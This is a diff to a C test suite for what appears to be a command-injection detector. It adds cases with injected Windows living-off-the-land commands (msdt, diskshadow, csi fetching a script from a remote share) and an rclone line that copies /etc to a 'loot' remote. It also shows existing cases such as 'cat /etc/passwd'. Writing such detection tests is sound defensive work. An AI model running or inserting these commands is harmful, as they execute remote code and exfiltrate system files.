@@ -225,6 +225,18 @@ static void typed_alone(void)
     STRONG("ldapsearch -x \"(uid=john)\";id", "id");
 }
 
+/* Binaries that ship with Windows and run or fetch code, after cmd's '&';
+ * their abbreviations in text stay text. */
+static void lolbins(void)
+{
+    STRONG("& msdt /id PCWDiagnostic /skip force", "msdt");
+    STRONG("& diskshadow /s C:\\Users\\Public\\x.txt", "diskshadow");
+    STRONG("& csi \\\\203.0.113.5\\share\\x.csx", "csi");
+    STRONG(";rclone copy /etc/ remote:loot", "rclone");
+    NONE("CSI & NCIS box set");
+    NONE("Law & Order; CSI; Bones");
+}
+
 static void values_alone(void)
 {
     STRONG("cat /etc/passwd", "sh:cat");
@@ -839,6 +851,7 @@ int main(void)
     wrappers();
     values_alone();
     typed_alone();
+    lolbins();
     windows_cmd();
     powershell();
     sinks();
